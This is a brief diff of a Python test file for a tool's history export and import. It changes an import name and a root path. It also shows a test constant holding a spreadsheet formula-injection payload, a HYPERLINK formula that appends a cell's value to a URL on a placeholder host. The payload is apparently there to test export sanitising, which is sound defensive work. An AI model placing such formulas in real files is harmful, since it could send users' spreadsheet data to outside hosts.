@@ -15,12 +15,12 @@ import os
 from pathlib import Path
 
 import pytest
-from test_tournament_hostile import desk_with_round, seated
+from tournament_desks import desk_with_round, seated
 
 from companion.cli import main
 from companion.history import History, export, importing
 
-ROOT = Path(__file__).resolve().parents[2]
+ROOT = Path(__file__).resolve().parents[3]
 HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?"&A1,"Click for the scores")'
 
 
